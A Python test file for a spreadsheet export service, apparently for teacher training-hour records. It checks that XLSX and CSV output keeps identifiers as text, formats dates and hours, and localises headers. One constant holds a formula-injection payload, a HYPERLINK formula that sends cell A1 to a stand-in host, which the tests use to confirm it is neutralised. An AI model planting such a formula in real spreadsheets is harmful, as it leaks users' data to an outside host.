"""The bank's spreadsheets read back cell by cell: identifiers and hostile text are text
cells, dates are dates, hours the exact decimal, headers in the language asked for; the CSV
keeps every digit of a teacher number and opens as UTF-8."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from decimal import Decimal

from openpyxl import load_workbook

from api.service import spreadsheet
from api.service.spreadsheet import Column, XlsxSheet

COLUMNS = (
    Column("learner_id", "identifier"),
    Column("name"),
    Column("on", "date"),
    Column("hours", "hours"),
    Column("count", "count"),
    Column("eligible"),
)
NUMBER = "220106201500009"
ZERO_LED = "012345678901234567"
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


async def _xlsx(rows: list[list[object]], language: spreadsheet.HeaderLanguage) -> bytes:
    sheet = XlsxSheet("teacher_annual", COLUMNS, language)
    for row in rows:
        sheet.append(row)
    return b"".join([chunk async for chunk in sheet.chunks()])


async def test_an_xlsx_reads_back_with_text_ids_dates_and_exact_hours() -> None:
    raw = await _xlsx(
        [
            [NUMBER, "王芳", date(2026, 12, 1), Decimal("2.55"), 3, "是"],
            [ZERO_LED, HOSTILE, "2026-11-30", "150", 0, "否"],
            [NUMBER, None, None, None, None, ""],
        ],
        "zh",
    )
    ws = load_workbook(io.BytesIO(raw))["teacher_annual"]
    rows = list(ws.iter_rows())
    assert [c.value for c in rows[0]] == ["教师编号", "姓名", "判定日期", "学时", "数量", "是否达标"]
    first, second, empty = rows[1], rows[2], rows[3]
    assert first[0].value == NUMBER and first[0].data_type == "s" and first[0].number_format == "@"
    assert second[0].value == ZERO_LED and second[0].data_type == "s"  # the leading 0 and all 18 digits
    assert first[1].value == "王芳"
    assert second[1].value == HOSTILE and second[1].data_type == "s"  # a string, not a formula
    assert first[2].value == datetime(2026, 12, 1) and first[2].is_date and first[2].number_format == "yyyy-mm-dd"
    assert second[2].value == datetime(2026, 11, 30) and second[2].is_date
    assert first[3].data_type == "n" and Decimal(str(first[3].value)) == Decimal("2.55")
    assert Decimal(str(second[3].value)) == Decimal("150")
    assert first[4].value == 3 and second[4].value == 0
    assert [first[5].value, second[5].value] == ["是", "否"]
    assert [c.value for c in empty][1:] == [None] * 5


async def test_xlsx_headers_in_english_or_as_codes() -> None:
    for language, heads in (
        ("en", ["teacher number", "name", "judged on", "hours", "count", "eligible"]),
        ("code", ["learner_id", "name", "on", "hours", "count", "eligible"]),
    ):
        ws = load_workbook(io.BytesIO(await _xlsx([], language))).active
        assert ws is not None
        assert [c.value for c in next(ws.iter_rows())] == heads


async def test_a_large_sheet_is_sent_in_bounded_chunks() -> None:
    sheet = XlsxSheet("big", COLUMNS, "code")
    for i in range(20_000):
        sheet.append([f"{NUMBER}{i}", "王芳", date(2026, 1, 1), Decimal("1.25"), i, "yes"])
    chunks = [chunk async for chunk in sheet.chunks()]
    assert len(chunks) > 1 and max(map(len, chunks)) <= spreadsheet.XLSX_CHUNK
    ws = load_workbook(io.BytesIO(b"".join(chunks)), read_only=True)["big"]
    [last] = list(ws.iter_rows(min_row=20_001, max_row=20_001, values_only=True))
    assert last[0] == f"{NUMBER}19999" and last[4] == 19_999


def test_a_csv_opens_as_utf8_and_keeps_every_digit() -> None:
    raw = spreadsheet.csv_header(COLUMNS, "zh") + spreadsheet.csv_row(
        COLUMNS, [NUMBER, HOSTILE, date(2026, 12, 1), Decimal("2.55"), 3, "是"]
    )
    assert raw.startswith(spreadsheet.BOM)
    header, row = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert header == ["教师编号", "姓名", "判定日期", "学时", "数量", "是否达标"]
    assert row == [f"'{NUMBER}", f"'{HOSTILE}", "2026-12-01", "2.55", "3", "是"]


def test_the_header_language_and_the_format_asked_for() -> None:
    assert spreadsheet.header_language(None, None) == "code"
    assert spreadsheet.header_language(None, "en-US,en") == "code"
    assert spreadsheet.header_language(None, "zh-CN,zh;q=0.9") == "zh"
    assert spreadsheet.header_language("en", "zh-CN") == "en"
    assert spreadsheet.header_language("zh", None) == "zh"
    assert spreadsheet.wanted_format(spreadsheet.XLSX_TYPE) == "xlsx"
    assert spreadsheet.wanted_format("text/csv") == "csv"
    assert spreadsheet.wanted_format("application/json") is None
    assert spreadsheet.yes_no(True, "zh") == "是" and spreadsheet.yes_no(None, "zh") == ""


def test_a_code_cell_follows_the_headers_and_keeps_a_code_it_has_no_label_for() -> None:
    assert spreadsheet.term("category", "ethics", "zh") == "师德/职业道德"
    assert spreadsheet.term("category", "ethics", "en") == "professional ethics"
    assert spreadsheet.term("category", "ethics", "code") == "ethics"  # for programs
    assert spreadsheet.term("level", "provincial", "zh") == "省级"
    assert spreadsheet.term("posting_status", "revoked", "zh") == "已撤销"
    assert spreadsheet.term("audit_section", "rejected", "zh") == "被拒绝"
    # A jurisdiction's own category (no national label): the code as it is, never empty.
    assert spreadsheet.term("category", "jl_rural_special", "zh") == "jl_rural_special"
    assert spreadsheet.term("assessment", None, "zh") == ""


def test_every_export_column_has_labels() -> None:
    from api.service.audit import INSTITUTION_COLUMNS
    from api.service.eligibility import COHORT_COLUMNS

    for column in (*COHORT_COLUMNS, *INSTITUTION_COLUMNS):
        label = spreadsheet.COLUMNS[column.code]
        assert label.zh and label.en
